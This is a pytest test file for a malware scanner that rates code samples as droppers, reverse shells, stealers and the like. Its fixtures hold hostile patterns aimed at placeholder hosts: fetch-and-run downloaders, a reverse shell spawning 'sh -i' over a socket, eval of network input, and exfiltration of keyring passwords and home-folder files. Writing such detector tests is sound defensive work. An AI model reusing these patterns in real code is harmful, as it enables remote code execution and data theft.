"""What is fetched, started or fed over a connection weighs by who answers for it, and by when it happens."""

import pytest
from weighed import worst, worst_script

from ostiary.core.scale import Severity

FETCHED = """
import os, subprocess, requests
def tool():
    with open({path!r}, "wb") as file:
        file.write(requests.get({url!r}).content)
    subprocess.run({command!r})
"""


@pytest.mark.parametrize(
    ("url", "path", "command", "severity"),
    [
        ("https://a.example.invalid/tool", "tools/tool", ["tools/tool", "scan"], Severity.HIGH),
        ("https://a.example.invalid/tool", "t/.tool", ["t/.tool"], Severity.CRITICAL),
        ("https://a.example.invalid/other", "t/tool", ["t/tool"], Severity.CRITICAL),
        ("http://a.example.invalid/tool", "tools/tool", ["tools/tool"], Severity.CRITICAL),
        ("https://203.0.113.9/tool", "tools/tool", ["tools/tool"], Severity.CRITICAL),
        ("https://a.example.invalid/t", "/tmp/tool", ["/tmp/tool"], Severity.CRITICAL),
        ("https://a.example.invalid/t", "tools/a.py", ["python", "tools/a.py"], Severity.CRITICAL),
        ("https://a.example.invalid/t", "tools/a.sh", ["tools/a.sh"], Severity.CRITICAL),
    ],
)
def test_a_name_over_tls_can_be_judged_where_nothing_hides(
    url: str, path: str, command: list[str], severity: Severity
) -> None:
    assert worst("dropper", FETCHED.format(url=url, path=path, command=command)) is severity


def test_it_stays_critical_on_import() -> None:
    text = FETCHED.format(url="https://a.example.invalid/t", path="tools/t", command=["tools/t"])
    assert worst("dropper", f"{text}\ntool()\n", "sample/__init__.py") is Severity.CRITICAL


def test_a_file_for_a_while_says_nothing_of_another_one() -> None:
    text = """
import subprocess, tempfile, requests
def words():
    with tempfile.NamedTemporaryFile() as file:
        file.write(requests.get("https://data.example.invalid/words").content)
        return len(file.read())
def build({given}):
    folder = tempfile.mkdtemp()
    {more}
    subprocess.run([folder + "/tool", "--quiet"])
"""
    assert worst("dropper", text.format(given="", more="pass")) is None
    fetch = (
        'open(folder + "/tool", "wb").write(requests.get("https://a.example.invalid/t").content)'
    )
    assert worst("dropper", text.format(given="", more=fetch)) is Severity.CRITICAL


OWN = """
import socket, subprocess
def renew(name=""):
    name = name or {own}
    for one in socket.getaddrinfo(name, None):
        name = one[3] or name
    subprocess.run({command})
"""


def test_the_own_name_looked_up_is_no_order_from_outside() -> None:
    command = '["kinit", "-k", name]'
    assert worst("dropper", OWN.format(own="socket.gethostname()", command=command)) is None
    other = OWN.format(own='"orders.example.invalid"', command="name")
    assert worst("dropper", other) is not None


JOINED = """
import os, socket, subprocess
def child():
    link = {link}
    for number in (0, 1, 2):
        os.dup2(link.fileno(), number)
    subprocess.call(["sh", "-i"] if {shell} else ["worker"])
child()
"""


def test_a_descriptor_that_was_handed_down_is_no_connection() -> None:
    inherited = JOINED.format(link="socket.socket(fileno=0)", shell=False)
    assert worst("reverse-shell", inherited) is None
    led = "socket.create_connection(('203.0.113.9', 4444))"
    for text in (led, f"socket.socket(fileno={led}.fileno())"):
        assert worst("reverse-shell", JOINED.format(link=text, shell=True)) is Severity.CRITICAL


SERVED = """
import socket
def serve(port):
    door = socket.socket()
    {open}
    while True:
        code = {link}.makefile("rb").readline()
        eval(code)
"""
WAITS = 'door.bind(("", port)); door.listen(5)', "door.accept()[0]"
LED = 'door.connect(("203.0.113.9", port))', "door"


def test_a_port_that_a_caller_opens_is_looked_at_and_a_line_out_is_refused() -> None:
    waits, led = (SERVED.format(open=one, link=link) for one, link in (WAITS, LED))
    for check in ("reverse-shell", "dropper"):
        assert worst(check, waits) is Severity.MEDIUM
        assert worst(check, led) is Severity.CRITICAL
        early = f"{waits}\nserve(4444)\n"
        assert worst(check, early, "sample/__init__.py") is Severity.CRITICAL


def test_a_function_of_an_executed_text_runs_when_it_is_called() -> None:
    text = """
import socket
exec('''def run(code):
    exec(code)''')
def serve(port):
    door = socket.socket()
    door.bind(("", port))
    run(door.accept()[0].makefile("rb").readline())
"""
    assert worst("reverse-shell", text, "sample/__init__.py") is Severity.MEDIUM
    assert worst("reverse-shell", f"{text}\nserve(1)\n", "sample/__init__.py") is Severity.CRITICAL


CHOSEN = """
import subprocess, urllib.request
def tex(program):
    subprocess.run([program, "-halt-on-error", {word}])
class Tried:
    def __eq__(self, other):
        tex({program})
Tried()
"""


@pytest.mark.parametrize(
    ("word", "program", "most"),
    [
        ('"--quiet"', "other", Severity.LOW),
        ('"install"', "other", Severity.MEDIUM),
        ('"--quiet"', "urllib.request.urlopen('https://a.example.invalid/x').read()", None),
        ('"--quiet"', "'curl'", Severity.HIGH),
    ],
)
def test_a_program_that_a_caller_chooses_and_gives_flags(
    word: str, program: str, most: Severity | None
) -> None:
    text = CHOSEN.format(word=word, program=program)
    found = worst("import-process", text, "sample/__init__.py")
    if most is None:
        assert found is not None
        assert found >= Severity.MEDIUM
    else:
        assert found is most


CLIENT = """
import os, httpx
def client():
    seen = {{key: value for key, value in os.environ.items()}}
    return httpx.Client({})
def send():
    return client().post("https://a.example.invalid/x", json={{"word": 1}})
"""


@pytest.mark.parametrize(
    ("given", "found"),
    [
        ("proxy=seen['http'], verify=seen", False),
        ("**{'mounts': seen, 'trust_env': False}", False),
        ("headers=seen", True),
        ("proxy='http://proxy.example.invalid/' + str(seen)", True),
    ],
)
def test_the_way_that_a_client_goes_is_not_what_it_sends(given: str, found: bool) -> None:
    assert (worst("stealer", CLIENT.format(given)) is not None) is found


KEPT = """
import keyring, requests
def log_in(where, name):
    requests.post(where, json=keyring.get_password({service!r}, name))
def send(name):
    requests.post("https://a.example.invalid/x", json=keyring.get_password({service!r}, name))
"""


@pytest.mark.parametrize(
    ("service", "most"), [("sample", None), ("Chrome Safe Storage", Severity.HIGH)]
)
def test_a_password_under_the_own_name_is_no_loot(service: str, most: Severity | None) -> None:
    assert worst("stealer", KEPT.format(service=service)) is most


GREP = """
import sys
def grep(start, goal):
    grep(start.__self__, goal)
    for place, one in enumerate(start):
        grep(start[place], goal)
    start()
grep({start}, 1)
"""


@pytest.mark.parametrize(
    ("start", "found"), [("sys.modules", False), ("print", True), ("id.__self__", True)]
)
def test_what_a_name_is_bound_to_is_known_of_functions_alone(start: str, found: bool) -> None:
    called = (
        f"{GREP.format(start=start)}\n{start}.__self__[1 + len(str(start))]()" if found else GREP
    )
    text = called.format(start=start)
    assert (worst("unreadable", text, "sample/__init__.py") is not None) is found


HOME_FILE = "const fs = require('fs'), os = require('os'), path = require('path');\n"


@pytest.mark.parametrize(
    ("path", "severity"),
    [
        ("path.join(os.homedir(), 'Documents/taxes.pdf')", Severity.CRITICAL),
        ("process.env.HOME + '/.config/other/auth.json'", Severity.CRITICAL),
        ("path.join(os.homedir(), '.sample/settings.json')", None),
        ("path.join(__dirname, 'notes.txt')", None),
    ],
)
def test_a_file_of_the_home_folder_goes_along(path: str, severity: Severity | None) -> None:
    body = f"fs.readFileSync({path})"
    sent = f"fetch('https://c.example.invalid/x', {{method: 'POST', body: {body}}})"
    assert worst_script("uncalled-chain", HOME_FILE + sent) is severity
    assert worst_script("uncalled-chain", f"{HOME_FILE}exports.go = () => {sent}") is None
